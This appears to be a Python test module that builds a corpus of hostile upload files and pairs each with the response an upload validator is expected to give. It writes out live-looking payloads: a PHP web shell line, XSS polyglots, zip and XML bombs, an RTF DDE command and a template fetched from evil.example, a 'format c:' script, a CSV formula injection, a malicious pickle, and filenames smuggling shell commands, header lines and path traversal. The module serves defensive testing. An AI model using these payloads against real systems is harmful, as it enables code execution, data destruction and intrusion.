"""Hostile files, family by family, each with the answer that it gets; all of them made here.

`refused` is 400 with the sentence, and nothing is kept. `taken` is 201, and the file comes back under that content type
to be downloaded: what it may do on a machine of its reader is the same as of any file, but no browser runs it and no
page of ours shows it.
"""

import base64
import gzip
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.modules.materials import photos
from tests.modules.materials.photos import PHOTOS, chunk, directory, heif_of, png_with, segment, tiff_entry, tiff_photo
from tests.modules.materials.samples import (
    ELF,
    GIF,
    LONG_LIST,
    PAGE,
    PDF,
    SVG,
    WINDOWS,
    bitmap,
    compound,
    djvu,
    heic,
    iso_media,
    mp3,
    office,
    open_document,
    png,
    powerpoint,
    riff,
    saved,
    workbook,
    zipped,
    zipped_parts,
)

from modules.materials.file_types import ACCEPTED

TEXT = "text/plain; charset=utf-8"
ZIP = "application/zip"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TOO_LARGE = "A file may have at most 25 MiB."
CANNOT_READ = "The request could not be read."
NO_FILE = "Send a file, in a form (multipart/form-data)."
NO_TITLE = "title: This field is required."
MISSING = {"title": ["This field is required."], "type": ["This field is required."]}
LIMIT = 25 * 1024 * 1024


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """A file, how it is sent, and what is answered."""

    what: str
    content: bytes | Callable[[], bytes]
    # As it stands in the form; behind an asterisk in the way that lets it have any letter.
    name: str
    content_type_of_part: str
    more_headers_of_part: str
    content_length: str | None
    # Empty where it is taken.
    sentence: str
    # What is wrong with the request, where that is more than the file.
    error: str
    fields: dict[str, list[str]]
    served_as: str
    shown_name: str
    is_shown: bool
    comes_back: bytes | None

    def bytes_sent(self) -> bytes:
        return self.content if isinstance(self.content, bytes) else self.content()


def refused(
    what: str,
    content: bytes | Callable[[], bytes],
    sentence: str = ACCEPTED,
    *,
    name: str = "holiday.jpg",
    error: str = "",
    fields: dict[str, list[str]] | None = None,
    part: str = "application/octet-stream",
    more: str = "",
    content_length: str | None = None,
) -> Hostile:
    return Hostile(
        what=what,
        content=content,
        name=name,
        content_type_of_part=part,
        more_headers_of_part=more,
        content_length=content_length,
        sentence=sentence,
        error=error,
        fields=fields or {},
        served_as="",
        shown_name="",
        is_shown=False,
        comes_back=None,
    )


def taken(
    what: str,
    content: bytes | Callable[[], bytes],
    served_as: str,
    *,
    name: str = "notes.txt",
    shown: str | None = None,
    is_shown: bool = False,
    comes_back: bytes | None = None,
    part: str = "application/octet-stream",
    more: str = "",
) -> Hostile:
    return Hostile(
        what=what,
        content=content,
        name=name,
        content_type_of_part=part,
        more_headers_of_part=more,
        content_length=None,
        sentence="",
        error="",
        fields={},
        served_as=served_as,
        shown_name=name if shown is None else shown,
        is_shown=is_shown,
        comes_back=comes_back,
    )


def unreadable(what: str, content: bytes, reason: str) -> Hostile:
    return refused(what, content, f"This picture cannot be read: {reason}.")


def too_many_pixels(what: str, content: bytes, size: str = "30,000 by 30,000") -> Hostile:
    return refused(what, content, f"This picture has {size} pixels. At most 120 million are accepted.")


def renamed(name: str, shown: str | None = None, *, what: str = "") -> Hostile:
    """A harmless text whose name is not."""
    return taken(what or repr(name), b"hello", TEXT, name=name, shown=shown)


# --- What they are made of --------------------------------------------------------------------------------------


def disc_image(beginning: bytes = b"") -> bytes:
    return beginning.ljust(16 * 2048, b"\x00") + b"\x01CD001\x01" + bytes(2041)


def nested_zip() -> bytes:
    """A hundred million times a million zeros: eight archives, each of them ten times in the next."""
    content = zipped_parts([("zeros", bytes(1_000_000))], zipfile.ZIP_DEFLATED)
    for depth in range(8):
        content = zipped_parts([(f"{depth}-{number}.zip", content) for number in range(10)], zipfile.ZIP_DEFLATED)
    return content


def overlapping_zip() -> bytes:
    """A thousand parts that are all the same bytes."""
    data = zlib.compress(bytes(1_000_000))[2:-4]
    first = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, 0, len(data), 1_000_000, 1, 0) + b"x" + data
    entry = b"PK\x01\x02" + struct.pack(
        "<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 33, 0, len(data), 1_000_000, 1, 0, 0, 0, 0, 0, 0
    )
    entries = (entry + b"x") * 1000
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1000, 1000, len(entries), len(first), 0)
    return first + entries + end


def zip_of_lies() -> bytes:
    """Says of its part that it is four gigabytes long."""
    content = bytearray(zipped(x=b"y"))
    at = content.index(b"PK\x01\x02")
    content[at + 24 : at + 28] = b"\xfe\xff\xff\xff"
    return bytes(content)


def gzip_bomb() -> bytes:
    return gzip.compress(bytes(20_000_000), mtime=0)


def word_with_an_object() -> bytes:
    return office(more=("word/embeddings/oleObject1.bin",))


def icon_of_a_large_picture() -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 8, 0, 0, 0, 0))
    inside = b"\x89PNG\r\n\x1a\n" + header
    return b"\x00\x00\x01\x00\x01\x00" + struct.pack("<BBBBHHII", 1, 1, 0, 0, 1, 32, len(inside), 22) + inside


def large_png() -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def large_gif(frames: int) -> bytes:
    """Ten thousand pixels a side, frame after frame of a single one."""
    frame = b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00"
    return b"GIF89a" + struct.pack("<HHBBB", 10_000, 10_000, 0, 0, 0) + frame * frames + b";"


def large_tiff() -> bytes:
    page = directory(tiff_entry(256, 4, 1, 30_000), tiff_entry(257, 4, 1, 30_000))
    return b"II*\x00\x08\x00\x00\x00" + page


def gif_with(comment: bytes) -> bytes:
    parts = b"".join(
        bytes([len(comment[at : at + 255])]) + comment[at : at + 255] for at in range(0, len(comment), 255)
    )
    return GIF[:19] + b"!\xfe" + parts + b"\x00" + GIF[19:]


def jpeg_with_comment(comment: bytes, *, behind: int = 0) -> bytes:
    whole = saved("JPEG")
    filler = (b"\xff\xfe" + struct.pack(">H", 60_002) + bytes(60_000)) * behind
    return whole[:2] + filler + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + whole[2:]


def jpeg_that_is_a_script() -> bytes:
    whole = saved("JPEG")
    return whole[:2] + b"\xff\xe0\x2f\x2a" + bytes(12_072) + whole[20:] + b"*/=1;alert(document.domain)//"


def gif_that_is_a_script() -> bytes:
    return b"GIF89a/*\x01\x00" + GIF[10:] + b"*/=1;alert(document.domain);"


def bitmap_that_is_a_script() -> bytes:
    return b"BM/*\x00\x00" + bitmap()[6:] + b"\x00*/=1;alert(document.domain);"


def sound_that_is_a_script() -> bytes:
    return b"RIFF/*\x00\x00" + riff(b"WAVE")[8:] + b"\x00*/=1;alert(document.domain);"


def exif_of_many_directories() -> bytes:
    chain = b"".join(struct.pack("<HI", 0, 8 + 6 * number) for number in range(1, 5000))
    return png_with(chunk(b"eXIf", b"II*\x00\x08\x00\x00\x00" + chain))


def exif(raw: bytes) -> bytes:
    return photos.jpeg_with(segment(b"Exif\x00\x00II*\x00\x08\x00\x00\x00" + raw))


class Runs:
    """What a pickle runs where somebody opens it."""

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        return print, ("hello",)


LOOP = exif(directory(tiff_entry(0x8769, 4, 1, 8), following=8))
BEYOND = exif(directory(tiff_entry(0x8825, 4, 1, 0xFFFFFFF0), tiff_entry(0x010F, 2, 0xFFFFFFFF, 0x7FFFFFFF)))
LETTER = (
    b"From: <Saved by a browser>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\tboundary=x\r\n\r\n"
    + PAGE
)
LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(f'<!ENTITY {chr(number + 1)} "{f"&{chr(number)};" * 10}">'.encode() for number in range(97, 107))
    + b"]>\n<l>&k;</l>\n"
)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
CANNOT_BE_REMOVED = (
    "This picture says where it was taken in a way that cannot be removed. Save it without its location."
)
MANY_PIXELS = "This picture has more than 6,000 million pixels in all its frames or pages, which is the most accepted."

# --- The table --------------------------------------------------------------------------------------------------

CORPUS: dict[str, list[Hostile]] = {
    "programs under another name": [
        refused("of Windows", WINDOWS),
        refused(
            "of Windows, from before there were windows in it", b"MZ" + bytes(58) + b"\x40\x00\x00\x00NE" + bytes(64)
        ),
        refused("of Linux", ELF, name="slides.pdf"),
        refused("of a Mac", b"\xcf\xfa\xed\xfe\x0c\x00\x00\x01" + bytes(64)),
        refused("of an old Mac", b"Joy!peffpwpc" + bytes(64)),
        refused("of DOS, which begins with nothing", b"\xb4\x09\xba\x0d\x01\xcd\x21\xc3" + b"hello$\x00\xff"),
        refused("of Windows, that is a tar archive too", WINDOWS.ljust(257, b"\x00") + b"ustar\x0000" + bytes(300)),
    ],
    "bytecode": [
        refused("of Java", b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(64)),
        refused("of browsers", b"\x00asm\x01\x00\x00\x00" + bytes(16)),
        refused("of Android", b"dex\n035\x00" + bytes(64)),
        refused("of Lua", b"\x1bLua\x53\x00\x19\x93\r\n\x1a\n" + bytes(32)),
        refused("of Python", b"\xa7\x0d\x0d\x0a" + bytes(64)),
        refused("objects of Python that run something", pickle.dumps(Runs(), protocol=4)),
    ],
    "scripts with a program behind them": [
        refused("of a shell", b"#!/bin/sh\nexec tail -c +40 $0\n" + ELF),
        refused("of PHP, with an archive of its own", b"<?php __HALT_COMPILER(); ?>\r\n" + bytes(4) + b"\x11\x00GBMB"),
        refused("of Python", b"import zipfile\n" + zipped(x=b"y"), name="setup.py"),
        refused("of Windows", b"@echo off\r\n" + WINDOWS, name="install.bat"),
    ],
    "pages": [
        refused("in HTML", PAGE, name="notes.txt"),
        refused("in capitals", b"<HTML><BODY onload=alert(1)>"),
        refused("in XHTML", b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'),
        refused("that is a program of Windows (HTA)", b'<hta:application id="x"/>\n<p>Hello</p>'),
        refused("in a letter (MHTML)", LETTER),
        refused("that is a script alone", b"<script>alert(1)</script>"),
        refused("that is a picture alone", b'<img src=x onerror="alert(1)">'),
    ],
    "pages in disguise": [
        refused("behind a byte order mark", b"\xef\xbb\xbf" + PAGE),
        refused("behind blank space", b" \t\r\n\x0c" * 50_000 + PAGE),
        refused("behind a word", b"GIF89a;<html><script>alert(1)</script></html>"),
        refused("behind comments", b"<!-- a --><!--->\n<!-->" + PAGE),
        refused("behind a thousand comments", b"<!-- -->" * 1000 + PAGE),
        refused("in UTF-16", PAGE.decode().encode("utf-16")),
        refused("in UTF-16 that does not say so", PAGE.decode().encode("utf-16-le")),
        refused("in UTF-32", PAGE.decode().encode("utf-32")),
        refused("with NULs in it", b"\x00".join(bytes([letter]) for letter in PAGE)),
        refused("in Latin letters of one byte", b"<html>\xfc</html>"),
        taken("in UTF-7, which is letters and stays letters", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", TEXT),
        taken("behind a sentence, which makes it a text", b"Write this: <script>alert(1)</script>", TEXT),
    ],
    "SVG": [
        refused("with a script", SVG),
        refused("behind a prolog", b'<?xml version="1.0"?>\n' + SVG),
        refused("behind entities", b'<!DOCTYPE x [<!ENTITY a "<b>">]>\n' + SVG),
        refused("with a prefix", b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>'),
        refused("in UTF-16", SVG.decode().encode("utf-16")),
        taken(
            "packed, which no browser unpacks by itself", gzip.compress(SVG, mtime=0), "application/gzip", name="x.svgz"
        ),
    ],
    "pages in pictures": [
        refused("in the comment of a PNG", png(text=PAGE)),
        refused("behind a PNG", png(after=PAGE)),
        refused("behind the first bytes of a PNG", b"\x89PNG\r\n\x1a\n" + PAGE),
        refused("in the comment of a GIF", gif_with(b" " * 300 + SVG)),
        refused("in the middle of a JPEG, far from both ends", jpeg_with_comment(PAGE + bytes(50_000), behind=5)),
        refused("behind a bitmap", bitmap() + PAGE),
    ],
    "scripts in pictures": [
        refused("of PHP in a PNG", png(text=b"<?php system($_GET['c']); ?>")),
        refused(
            "of PHP in a JPEG, with an archive",
            jpeg_with_comment(b"<?php __HALT_COMPILER(); ?>" + bytes(70_000 - 10_000)),
        ),
        refused("a GIF that is JavaScript too", gif_that_is_a_script()),
        refused("a bitmap that is JavaScript too", bitmap_that_is_a_script()),
        refused("a JPEG that is JavaScript too", jpeg_that_is_a_script()),
        refused("a sound that is JavaScript too", sound_that_is_a_script()),
        taken("JavaScript that begins like a GIF", b"GIF89a/**/=1;alert(document.domain);", TEXT),
    ],
    "archives and programs in pictures": [
        refused("a zip behind a GIF", GIF + zipped(x=b"y")),
        refused("a zip with too long a list behind a PNG", png() + LONG_LIST),
        refused("a RAR behind a JPEG", saved("JPEG") + b"Rar!\x1a\x07\x01\x00" + bytes(64)),
        refused("a 7z in a PNG", png_with(chunk(b"raRe", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64)))),
        refused("a program behind a PNG", png(after=ELF)),
        refused(
            "a program of Windows in a GIF", gif_with(WINDOWS + b"!This program cannot be run in DOS mode.\r\r\n$")
        ),
        refused("a PDF in the comment of a PNG", png(text=PDF)),
    ],
    "PDF and something else": [
        refused("a page behind it", PDF + PAGE),
        refused("a page behind its first bytes", b"%PDF-1.4\n<html><script>alert(1)</script></html>"),
        refused("a page in front of it", PAGE + PDF, name="slides.pdf"),
        refused("a zip behind it", PDF + zipped(x=b"y"), name="slides.pdf"),
        refused("a program behind it", PDF + WINDOWS, name="slides.pdf"),
        refused("a long something behind it", PDF + b"\x00\xff" * 2000, name="slides.pdf"),
        refused("a disc in it", disc_image(PDF), name="slides.pdf"),
        refused("bytes in front of it, where readers would still find it", b"\x00\x01" * 100 + PDF, name="slides.pdf"),
        taken(
            "a script in it, as forms have them",
            PDF.replace(b"<</Type /Catalog>>", b"<</Type /Catalog /OpenAction <</S /JavaScript /JS (app.alert(1))>>>>"),
            "application/pdf",
            name="form.pdf",
        ),
    ],
    "archives and something else": [
        refused("a program that unpacks itself", WINDOWS + zipped(x=b"y"), name="archive.zip"),
        refused("a page in front", PAGE + zipped(x=b"y"), name="archive.zip"),
        refused(
            "an archive in front that is none", b"PK\x03\x04" + PAGE + bytes(64) + zipped(x=b"y"), name="archive.zip"
        ),
        refused("an archive that cannot be read", b"PK\x03\x04" + bytes(200), name="archive.zip"),
        taken("a PDF as its first part, as anybody has it", zipped_parts([("a.pdf", PDF)]), ZIP, name="archive.zip"),
        taken("a page in it", zipped_parts([("index.html", PAGE)]), ZIP, name="archive.zip"),
        taken("paths in it that lead out of it", zipped_parts([("../../etc/passwd", b"x")]), ZIP, name="archive.zip"),
    ],
    "sound and video with pages in them": [
        refused(
            "an MP3 with a page for a tag", b"ID3\x03\x00\x00\x00\x00\x00\x00" + PAGE + b"\x00\xff", name="song.mp3"
        ),
        refused("a page behind an MP3", mp3() + PAGE, name="song.mp3"),
        refused(
            "an MP4 with a page in its first box", iso_media(b"isom") + b"\x00\x00\x01\x00free" + PAGE, name="a.mp4"
        ),
        refused("a zip behind an MP4", iso_media(b"isom") + zipped(x=b"y"), name="a.mp4"),
    ],
    "macros in documents of Office": [
        refused("Word", office(more=("word/vbaProject.bin",)), name="letter.docx"),
        refused("Word, in capitals", office(more=("WORD/VBAPROJECT.BIN",)), name="letter.docx"),
        refused(
            "Word, under another name",
            office(types='<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'),
            name="letter.docx",
        ),
        refused("Excel, as of 1992", office("spreadsheetml.sheet", more=("xl/macrosheets/sheet1.xml",)), name="a.xlsx"),
        refused(
            "controls that run (ActiveX)", office(types="application/vnd.ms-office.activeX+xml"), name="letter.docx"
        ),
    ],
    "macros in old documents of Office": [
        refused("Word", compound({"WordDocument": b"text"}, storages=("Macros", "VBA")), name="letter.doc"),
        refused("Excel", compound({"Workbook": workbook(0)}, storages=("_VBA_PROJECT_CUR",)), name="a.xls"),
        refused("Excel, as of 1992", compound({"Workbook": workbook(0, 1)}), name="a.xls"),
        refused(
            "Excel, encrypted so that nobody sees them",
            compound({"Workbook": workbook(0, encrypted=True)}),
            name="a.xls",
        ),
        refused("PowerPoint", compound({"PowerPoint Document": powerpoint(macros=True)}), name="a.ppt"),
    ],
    "scripts in OpenDocument": [
        refused("Basic", open_document("text", "Basic/Standard/Module1.xml"), name="letter.odt"),
        refused("Python", open_document("spreadsheet", "Scripts/python/run.py"), name="table.ods"),
    ],
    "objects in documents": [
        refused("RTF", rb"{\rtf1{\object\objemb{\*\objdata 0105000002000000}}}", name="letter.rtf"),
        refused("RTF, loaded at once", rb"{\rtf1{\object\objautlink\objupdate}}", name="letter.doc"),
        refused("RTF, behind a backslash that is text", rb"{\rtf1 \\\objdata 01050000}", name="letter.rtf"),
        refused("RTF that is none, but Word reads it", rb"{\rt{\*\objdata 01050000}}", name="letter.doc"),
        refused("RTF that only writes about them", rb"{\rtf1 It is written \\objdata.}", name="letter.rtf"),
        refused("RTF that starts a program", rb"{\rtf1{\field{\*\fldinst DDEAUTO c:\\cmd.exe}}}", name="letter.rtf"),
        refused("RTF that fetches a template", rb"{\rtf1{\*\template http://evil.example/x.dotm}}", name="letter.rtf"),
        taken("Word, which has formulas in this way", word_with_an_object(), WORD, name="letter.docx"),
    ],
    "archives that unpack to very much": [
        taken("archives in archives", nested_zip(), ZIP, name="archive.zip"),
        taken("a thousand parts in the same place", overlapping_zip(), ZIP, name="archive.zip"),
        taken("a part that says to be four gigabytes", zip_of_lies(), ZIP, name="archive.zip"),
        taken("twenty million zeros", gzip_bomb(), "application/gzip", name="zeros.gz"),
        refused("a list of parts that takes a while to read", LONG_LIST, name="archive.zip"),
    ],
    "documents that unpack to very much": [
        refused(
            "Word",
            zipped_parts([("[Content_Types].xml", b" " * (4 * 1024 * 1024))], zipfile.ZIP_DEFLATED),
            name="letter.docx",
        ),
        refused(
            "Word, packed as nobody packs it",
            zipped_parts([("[Content_Types].xml", b"<x/>")], zipfile.ZIP_LZMA),
            name="letter.docx",
        ),
        refused(
            "OpenDocument",
            zipped_parts([("mimetype", bytes(4 * 1024 * 1024))], zipfile.ZIP_DEFLATED),
            name="letter.odt",
        ),
        taken("XML, a thousand million laughs: a text, which nobody parses", LAUGHS, TEXT, name="notes.xml"),
    ],
    "pictures of too many pixels": [
        too_many_pixels("PNG", large_png()),
        too_many_pixels("TIFF", large_tiff()),
        too_many_pixels("icon of one pixel", icon_of_a_large_picture()),
        too_many_pixels(
            "HEIC put together", heif_of(b"grid", data=b"\x00\x00\x00\x00" + struct.pack(">HH", 30_000, 30_000))
        ),
        refused("GIF of a hundred frames", large_gif(100), MANY_PIXELS),
        refused("picture whose pixels nobody here can count (JPEG XL)", b"\xff\x0a" + bytes(64)),
    ],
    "broken pictures": [
        unreadable("PNG, a part of two gigabytes", png_with(b"\x7f\xff\xff\xffIDAT"), "it ends too early"),
        unreadable(
            "PNG of nothing", b"\x89PNG\r\n\x1a\n" + chunk(b"IDAT", bytes(16)), "it does not say how large it is"
        ),
        unreadable(
            "PNG without pixels", large_png().replace(struct.pack(">II", 30_000, 30_000), bytes(8)), "it has no pixels"
        ),
        unreadable("JPEG that is cut off", saved("JPEG")[:100], "it does not say how large it is"),
        unreadable(
            "JPEG of a hundred thousand parts",
            saved("JPEG")[:2] + b"\xff\xe2\x00\x02" * 100_000,
            "it has too many parts",
        ),
        unreadable("GIF of a million parts", GIF[:-2] + b"\x01\x00" * 600_000, "it has too many parts"),
        unreadable(
            "GIF that goes on with something else",
            GIF[:-1] + b"\x99" * 50,
            "there is something in it that is no part of it",
        ),
        unreadable("WebP that is cut off", saved("WEBP")[:-10], "it ends too early"),
        unreadable(
            "TIFF that goes round",
            b"II*\x00\x08\x00\x00\x00" + directory(following=8),
            "it does not say how large it is",
        ),
        unreadable("HEIC that is cut off", heic()[:-50], "it ends too early"),
        unreadable(
            "icon of what is not there",
            b"\x00\x00\x01\x00\x01\x00" + bytes(12) + b"\xff\xff\xff\x7f",
            "it ends too early",
        ),
    ],
    "photos that say where they were taken": [
        taken(
            what,
            PHOTOS[kind][0],
            PHOTOS[kind][1],
            name=f"holiday.{kind[:4].strip()}",
            is_shown=True,
            comes_back=photos.cleared(*PHOTOS[kind]),
        )
        for what, kind in (
            ("JPEG", "jpg"),
            ("PNG", "png with XMP"),
            ("WebP", "webp"),
            ("HEIC", "heic"),
            ("TIFF", "tiff"),
        )
    ],
    "hostile EXIF": [
        taken("that goes round", LOOP, "image/jpeg", name="holiday.jpg", is_shown=True),
        taken("that leads out of the file", BEYOND, "image/jpeg", name="holiday.jpg", is_shown=True),
        unreadable("of five thousand directories", exif_of_many_directories(), "it has too many parts"),
        refused("a place that is pixels", tiff_photo(location_at=134, pixels=directory(bytes(12))), CANNOT_BE_REMOVED),
        refused(
            "a place that is the directory itself", exif(directory(tiff_entry(0x8825, 4, 1, 8))), CANNOT_BE_REMOVED
        ),
        refused(
            "a place that is the picture, in a HEIC",
            heif_of(b"hvc1", b"Exif", data=bytes(4) + photos.raw_exif()),
            CANNOT_BE_REMOVED,
        ),
    ],
    "names with paths": [
        renamed("../../etc/passwd", "passwd"),
        renamed("..\\..\\windows\\system32\\x.dll", "x.dll"),
        renamed("C:\\Users\\john\\notes.txt", "notes.txt"),
        renamed("\\\\server\\share\\notes.txt", "notes.txt"),
        renamed("/etc/cron.d/evil", "evil"),
        renamed("..%2f..%2fetc%2fpasswd"),
        renamed("../..", "file", what="a path and no name"),
    ],
    "names that deceive the eye": [
        renamed("annexe\u202efdp.exe", "annexefdp.exe"),
        renamed("holiday\u2066gpj.\u2069exe", "holidaygpj.exe"),
        renamed("holiday.jpg                    .exe"),
        renamed("invoice.pdf.exe"),
        renamed("page.html"),
        renamed("\u0440aypal.txt", what="a letter of another alphabet"),
    ],
    "names that would be more than a name": [
        taken(
            "lines of a header",
            b"hello",
            TEXT,
            name="*=UTF-8''a%0d%0aSet-Cookie:%20b=c.txt",
            shown="aSet-Cookie: b=c.txt",
        ),
        taken("a NUL", b"hello", TEXT, name="*=UTF-8''evil.txt%00.jpg", shown="evil.txt.jpg"),
        taken(
            "another disposition",
            b"hello",
            TEXT,
            name="*=UTF-8''a%22%3B%20filename=%22b.html",
            shown='a"; filename="b.html',
        ),
        taken("an element", b"hello", TEXT, name="<img src=x onerror=alert(1)>.txt"),
        taken("a command", b"hello", TEXT, name="$(reboot);`id`|x.txt"),
        taken("line ends that are no line ends", b"hello", TEXT, name="a\u2028b\u2029c.txt", shown="abc.txt"),
    ],
    "names of devices, and of great length": [
        renamed("CON"),
        renamed("aux.h"),
        renamed("NUL.txt"),
        renamed("x" * 300 + ".pdf", "x" * 251 + ".pdf", what="three hundred letters"),
        renamed("x" * 900, "x" * 255, what="nine hundred letters"),
        refused("a hundred thousand letters", b"hello", error=CANNOT_READ, name="x" * 100_000),
        renamed("...", "file"),
    ],
    "nothing, and too much": [
        refused("nothing", b"", "This file is empty.", name="notes.txt"),
        refused("one byte more than is accepted", lambda: b"x" * (LIMIT + 1), TOO_LARGE, name="notes.txt"),
        refused("far more than is accepted", lambda: b"x" * (LIMIT + 10_000_000), TOO_LARGE, name="notes.txt"),
        refused("a picture that is too large", lambda: png() + bytes(LIMIT), TOO_LARGE),
    ],
    "lies about the file": [
        refused("a program that is said to be a picture", WINDOWS, part="image/png"),
        refused("a page that is said to be a text", PAGE, part="text/plain"),
        taken("a text that is said to be a page", b"hello", TEXT, part="text/html"),
        taken("a length of its own", b"hello", TEXT, more="Content-Length: 4000000000\r\n"),
        taken("a length below nothing", b"hello", TEXT, more="Content-Length: -1\r\n"),
        refused("a page in letters", base64.b64encode(PAGE), more="Content-Transfer-Encoding: base64\r\n"),
        refused("letters that are none", b"x", error=CANNOT_READ, more="Content-Transfer-Encoding: base64\r\n"),
        refused("a request of no length", b"hello", error=NO_TITLE, fields=MISSING, content_length="0"),
        refused("a request of a length in letters", b"hello", error=NO_TITLE, fields=MISSING, content_length="many"),
        refused("a request of a length below nothing", b"hello", error=CANNOT_READ, content_length="-5"),
        refused("a request that ends later than it says", b"hello", NO_FILE, content_length="200"),
    ],
    "disks, packages and shortcuts": [
        refused("a disc", disc_image(), name="disc.iso"),
        refused("a disc that is a picture", disc_image(GIF), name="holiday.gif"),
        refused("a disk of a Mac", b"BZh91AY&SY" + bytes(600) + b"koly\x00\x00\x00\x04" + bytes(504), name="disk.dmg"),
        refused("a package of Java", zipped_parts([("META-INF/MANIFEST.MF", b"Main-Class: A"), ("A.class", b"x")])),
        refused("a package of Android", zipped_parts([("AndroidManifest.xml", b"\x03"), ("resources.arsc", b"x")])),
        refused("a package of a browser", b"Cr24\x03\x00\x00\x00" + bytes(64) + zipped(x=b"y")),
        refused("a package of another", zipped_parts([("manifest.json", b"{}"), ("META-INF/mozilla.rsa", b"x")])),
        refused("a package of Windows", compound({"Property": b"x"}), name="setup.msi"),
        refused(
            "a package of Debian",
            b"!<arch>\ndebian-binary   1410122664  0     0     100644  4         `\n2.0\n\x00\xff",
        ),
        refused("a shortcut of Windows", b"\x4c\x00\x00\x00\x01\x14\x02\x00" + bytes(64), name="notes.lnk"),
        refused("a help file", b"ITSF\x03\x00\x00\x00" + bytes(64), name="help.chm"),
        taken("a shortcut of Linux, which is a text", b"[Desktop Entry]\nExec=reboot\n", TEXT, name="notes.desktop"),
        taken("a shortcut to an address, which is a text", b"[InternetShortcut]\nURL=file:///x\n", TEXT, name="a.url"),
    ],
    "texts that harm whoever runs them": [
        taken("the test of virus scanners", EICAR, TEXT, name="eicar.com"),
        taken("a script of Windows", b"@echo off\r\nformat c:\r\n", TEXT, name="run.bat"),
        taken("a table with a formula", b"name,points\n=cmd|'/c calc'!A1,3\n", TEXT, name="points.csv"),
        taken("objects of Python in letters", b"cos\nsystem\n(S'id'\ntR.", TEXT, name="data.pickle"),
        taken(
            "XML that a browser turns into a page, if it is opened from a disk",
            b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="#x"?>\n<notes/>\n',
            TEXT,
            name="notes.xml",
        ),
        taken("code with a page in it", b'PAGE = "<html><script>alert(1)</script></html>"\n', TEXT, name="page.py"),
    ],
    "pictures that no browser shows": [
        taken("a book of scanned pages", djvu(), "image/vnd.djvu", name="book.djvu"),
    ],
}

ALL = [(family, hostile) for family, members in CORPUS.items() for hostile in members]
